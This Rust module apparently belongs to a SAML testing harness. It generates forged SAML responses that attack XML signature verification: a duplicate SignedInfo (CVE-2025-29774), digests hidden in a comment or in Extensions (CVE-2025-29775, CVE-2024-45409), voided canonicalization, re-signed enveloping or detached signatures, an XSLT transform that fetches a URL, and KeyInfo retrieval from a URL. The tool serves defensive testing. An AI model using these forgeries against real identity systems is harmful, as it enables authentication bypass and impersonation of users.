//! Attacks on the signature's own structure: a second SignedInfo, digests where a careless
//! verifier looks for them, odd namespaces, enveloping and detached signatures, extra or
//! unknown transforms and canonicalization, and KeyInfo that points elsewhere. Those that must
//! stay cryptographically valid are re-signed with the plan's key ([`crate::dsig`]).

use roxmltree::Document;

use super::{
    Edit, TamperContext, content_end, copy, declare_namespace, id_edit, identity_edits, parse,
    signature_of, signatures, signed_assertion, signed_assertion_and_signature, signed_name,
    splice,
};
use crate::dsig;
use crate::plan::SignatureSelector;
use crate::response::PipelineError;
use crate::xml::{NS_DS, NS_SAMLP, escape_attr, strict_options};

const EXC_C14N: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
const ENVELOPED: &str = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";

fn sign_error(e: impl std::fmt::Display) -> PipelineError {
    PipelineError::Sign(e.to_string())
}

/// The digest of an element given as standalone text (exclusive c14n is independent of
/// context as long as the prefixes it uses are declared on it), leaving out its own enveloped
/// signature.
pub(super) fn digest_of(element: &str, ctx: &TamperContext<'_>) -> Result<String, PipelineError> {
    let doc = Document::parse_with_options(element, strict_options()).map_err(|e| {
        PipelineError::Plan(format!("tamper: a copied element does not parse: {e}"))
    })?;
    let root = doc.root_element();
    let canonical = crate::c14n::canonicalize(element, root, signature_of(root));
    Ok(dsig::digest(ctx.digest, canonical.as_bytes()))
}

/// SAMLStorm (CVE-2025-29774): an unsigned forgery before the signed assertion, and a second
/// SignedInfo after the first whose Reference names the forgery with its correct digest.
pub(super) fn second_signed_info(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
    ctx: &TamperContext<'_>,
) -> Result<String, PipelineError> {
    let original = signed_name(doc, "second-signed-info")?;
    let (assertion, signature) = signed_assertion_and_signature(doc, "second-signed-info")?;
    let forged_id = crate::xml::new_id();
    let mut forged_edits = identity_edits(assertion, &original, name_id);
    forged_edits.push((signature.range(), String::new()));
    forged_edits.push(id_edit(assertion, &forged_id)?);
    let forged = copy(xml, assertion, forged_edits);
    let digest = digest_of(&forged, ctx)?;

    let signed_info = dsig::child(signature, "SignedInfo").map_err(sign_error)?;
    let reference = signed_info
        .descendants()
        .find(|n| n.has_tag_name((NS_DS, "Reference")))
        .ok_or_else(|| sign_error("the signature has no Reference"))?;
    let digest_value = reference
        .descendants()
        .find(|n| n.has_tag_name((NS_DS, "DigestValue")))
        .ok_or_else(|| sign_error("the signature has no DigestValue"))?;
    let uri = reference
        .attribute_node("URI")
        .ok_or_else(|| sign_error("the Reference has no URI"))?;
    let second = copy(
        xml,
        signed_info,
        vec![
            (uri.range_value(), format!("#{forged_id}")),
            (dsig::inner_range(xml, digest_value), digest),
        ],
    );
    let start = assertion.range().start;
    let after = signed_info.range().end;
    Ok(splice(
        xml,
        vec![(start..start, forged), (after..after, second)],
    ))
}

/// Where [`forged_digest`] puts the forged assertion's digest.
#[derive(Debug, Clone, Copy)]
pub(super) enum DigestPlace {
    /// In a comment at the start of the real DigestValue (CVE-2025-29775).
    Comment,
    /// In a `ds:DigestValue` inside `samlp:Extensions`, earlier in document order
    /// (CVE-2024-45409).
    Extensions,
}

/// Edits the signed assertion's NameID, then puts the edited assertion's digest where a
/// careless verifier reads it.
pub(super) fn forged_digest(
    xml: &str,
    name_id: &str,
    place: DigestPlace,
    ctx: &TamperContext<'_>,
) -> Result<String, PipelineError> {
    let kind = match place {
        DigestPlace::Comment => "digest-comment",
        DigestPlace::Extensions => "stray-digest-value",
    };
    let edited = {
        let doc = parse(xml)?;
        let original = signed_name(&doc, kind)?;
        let (assertion, _) = signed_assertion_and_signature(&doc, kind)?;
        splice(xml, identity_edits(assertion, &original, name_id))
    };
    let doc = parse(&edited)?;
    let (assertion, signature) = signed_assertion_and_signature(&doc, kind)?;
    let digest = digest_of(&edited[assertion.range()], ctx)?;
    let edit: Edit = match place {
        DigestPlace::Comment => {
            let value = signature
                .descendants()
                .find(|n| n.has_tag_name((NS_DS, "DigestValue")))
                .ok_or_else(|| sign_error("the signature has no DigestValue"))?;
            let at = dsig::inner_range(&edited, value).start;
            (at..at, format!("<!--{digest}-->"))
        }
        DigestPlace::Extensions => {
            let at = super::wrapping::extensions_point(&doc)?;
            (
                at..at,
                format!(
                    "<samlp:Extensions xmlns:samlp=\"{NS_SAMLP}\"><ds:DigestValue \
                     xmlns:ds=\"{NS_DS}\">{digest}</ds:DigestValue></samlp:Extensions>"
                ),
            )
        }
    };
    Ok(splice(&edited, vec![edit]))
}

/// Declares a namespace with `uri` on the signed assertion.
pub(super) fn odd_namespace(
    doc: &Document<'_>,
    xml: &str,
    uri: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let assertion = signed_assertion(doc)?;
    Ok(vec![declare_namespace(xml, assertion, "harness", uri)])
}

/// [`crate::plan::Tamper::VoidCanonicalization`]: every signed element declares a namespace
/// with `uri`, and every DigestValue becomes the digest of the empty string.
pub(super) fn void_canonicalization(
    doc: &Document<'_>,
    xml: &str,
    uri: &str,
    ctx: &TamperContext<'_>,
) -> Result<Vec<Edit>, PipelineError> {
    let mut edits = Vec::new();
    for sig in signatures(doc, SignatureSelector::All) {
        let signed = sig
            .parent_element()
            .ok_or_else(|| sign_error("a signature has no parent"))?;
        edits.push(declare_namespace(xml, signed, "harness", uri));
        edits.extend(empty_digests(xml, sig, ctx));
    }
    if edits.is_empty() {
        return Err(PipelineError::Plan(
            "tamper `void-canonicalization`: the response has no signature; use a signing layout"
                .into(),
        ));
    }
    Ok(edits)
}

/// Every DigestValue of `sig` set to the digest of the empty string (what a library that
/// canonicalizes the referenced element to "" computes).
pub(super) fn empty_digests(
    xml: &str,
    sig: roxmltree::Node<'_, '_>,
    ctx: &TamperContext<'_>,
) -> Vec<Edit> {
    let empty = dsig::digest(ctx.digest, b"");
    sig.descendants()
        .filter(|n| n.has_tag_name((NS_DS, "DigestValue")))
        .map(|value| (dsig::inner_range(xml, value), empty.clone()))
        .collect()
}

/// Where [`re_sign_outside`] puts the new signature.
#[derive(Debug, Clone, Copy)]
pub(super) enum Shape {
    /// The assertion inside the signature's `ds:Object`.
    Enveloping,
    /// The signature after the assertion, as its sibling.
    Detached,
}

/// Removes every signature and signs the assertion again with a signature outside it.
pub(super) fn re_sign_outside(
    doc: &Document<'_>,
    xml: &str,
    shape: Shape,
    ctx: &TamperContext<'_>,
) -> Result<String, PipelineError> {
    let assertion = signed_assertion(doc)?;
    let id = assertion.attribute("ID").unwrap_or_default();
    let bare = match signature_of(assertion) {
        Some(sig) => copy(xml, assertion, vec![(sig.range(), String::new())]),
        None => xml[assertion.range()].to_owned(),
    };
    let digest = digest_of(&bare, ctx)?;
    let object = match shape {
        Shape::Enveloping => format!("<ds:Object>{bare}</ds:Object>"),
        Shape::Detached => String::new(),
    };
    let signature = format!(
        concat!(
            "<ds:Signature xmlns:ds=\"{ds}\"><ds:SignedInfo>",
            "<ds:CanonicalizationMethod Algorithm=\"{c14n}\"/>",
            "<ds:SignatureMethod Algorithm=\"{alg}\"/>",
            "<ds:Reference URI=\"#{id}\"><ds:Transforms>",
            "<ds:Transform Algorithm=\"{c14n}\"/>",
            "</ds:Transforms><ds:DigestMethod Algorithm=\"{digest_alg}\"/>",
            "<ds:DigestValue>{digest}</ds:DigestValue>",
            "</ds:Reference></ds:SignedInfo><ds:SignatureValue></ds:SignatureValue>",
            "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert}</ds:X509Certificate>",
            "</ds:X509Data></ds:KeyInfo>{object}</ds:Signature>"
        ),
        ds = NS_DS,
        c14n = EXC_C14N,
        alg = ctx.algorithm.uri(),
        id = escape_attr(id),
        digest_alg = ctx.digest.uri(),
        digest = digest,
        cert = ctx.key.key.cert_base64(),
        object = object,
    );
    let mut edits: Vec<Edit> = signature_of(doc.root_element())
        .map(|sig| (sig.range(), String::new()))
        .into_iter()
        .collect();
    edits.push((
        assertion.range(),
        match shape {
            Shape::Enveloping => signature,
            Shape::Detached => format!("{bare}{signature}"),
        },
    ));
    let unsigned = splice(xml, edits);
    let start = unsigned
        .find("<ds:Signature xmlns:ds")
        .ok_or_else(|| sign_error("the new signature went missing"))?;
    // The new signature is the only one left.
    dsig::resign(&unsigned, start, ctx.algorithm, ctx.key).map_err(sign_error)
}

/// A change to SignedInfo that the mock IdP signs again.
#[derive(Debug, Clone, Copy)]
pub(super) enum SignedInfoEdit<'a> {
    /// An XSLT transform first, whose stylesheet loads the URL.
    Xslt(&'a str),
    /// A third transform (exclusive c14n again).
    ExtraTransform,
    /// The Reference twice.
    ExtraReference,
    /// This CanonicalizationMethod algorithm.
    Canonicalization(&'a str),
    /// No enveloped-signature transform (for a reference to content inside the signature,
    /// which that transform would remove).
    DropEnveloped,
}

/// Applies `edit` to each selected signature's SignedInfo and re-signs it.
pub(super) fn edit_signed_info(
    xml: &str,
    which: SignatureSelector,
    edit: SignedInfoEdit<'_>,
    ctx: &TamperContext<'_>,
) -> Result<String, PipelineError> {
    let count = signatures(&parse(xml)?, which).len();
    if count == 0 {
        return Err(PipelineError::Plan(format!(
            "tamper: the response has no {which:?} signature; check the signing layout"
        )));
    }
    let mut out = xml.to_owned();
    for index in 0..count {
        let doc = parse(&out)?;
        let sig = signatures(&doc, which)[index];
        let signed_info = dsig::child(sig, "SignedInfo").map_err(sign_error)?;
        let find = |name: &str| {
            signed_info
                .descendants()
                .find(|n| n.has_tag_name((NS_DS, name)))
                .ok_or_else(|| sign_error(format!("the signature has no ds:{name}")))
        };
        let change: Edit = match edit {
            SignedInfoEdit::Xslt(url) => {
                let transforms = find("Transforms")?;
                let at = dsig::inner_range(&out, transforms).start;
                (
                    at..at,
                    format!(
                        "<ds:Transform Algorithm=\"{XSLT}\"><xsl:stylesheet \
                         xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">\
                         <xsl:template match=\"/\"><xsl:copy-of select=\"document('{}')\"/>\
                         </xsl:template></xsl:stylesheet></ds:Transform>",
                        escape_attr(url)
                    ),
                )
            }
            SignedInfoEdit::ExtraTransform => {
                let transforms = find("Transforms")?;
                let at = content_end(&out, transforms);
                (at..at, format!("<ds:Transform Algorithm=\"{EXC_C14N}\"/>"))
            }
            SignedInfoEdit::ExtraReference => {
                let reference = find("Reference")?;
                let at = reference.range().end;
                (at..at, out[reference.range()].to_owned())
            }
            SignedInfoEdit::Canonicalization(algorithm) => {
                let method = find("CanonicalizationMethod")?;
                let attr = method
                    .attribute_node("Algorithm")
                    .ok_or_else(|| sign_error("CanonicalizationMethod has no Algorithm"))?;
                (attr.range_value(), escape_attr(algorithm))
            }
            SignedInfoEdit::DropEnveloped => {
                let enveloped = signed_info
                    .descendants()
                    .find(|n| {
                        n.has_tag_name((NS_DS, "Transform"))
                            && n.attribute("Algorithm") == Some(ENVELOPED)
                    })
                    .ok_or_else(|| sign_error("the signature has no enveloped transform"))?;
                (enveloped.range(), String::new())
            }
        };
        let start = sig.range().start;
        let changed = splice(&out, vec![change]);
        out = dsig::resign(&changed, start, ctx.algorithm, ctx.key).map_err(sign_error)?;
    }
    Ok(out)
}

/// Replaces the selected signatures' KeyInfo content with a RetrievalMethod to `url`.
pub(super) fn key_info_retrieval(
    doc: &Document<'_>,
    xml: &str,
    which: SignatureSelector,
    url: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let edits: Vec<Edit> = signatures(doc, which)
        .into_iter()
        .filter_map(|sig| sig.children().find(|n| n.has_tag_name((NS_DS, "KeyInfo"))))
        .map(|key_info| {
            (
                dsig::inner_range(xml, key_info),
                format!(
                    "<ds:RetrievalMethod URI=\"{}\" Type=\"http://www.w3.org/2000/09/xmldsig#X509Data\"/>",
                    escape_attr(url)
                ),
            )
        })
        .collect();
    if edits.is_empty() {
        return Err(PipelineError::Plan(format!(
            "tamper `key-info-retrieval`: the response has no {which:?} signature with KeyInfo"
        )));
    }
    Ok(edits)
}
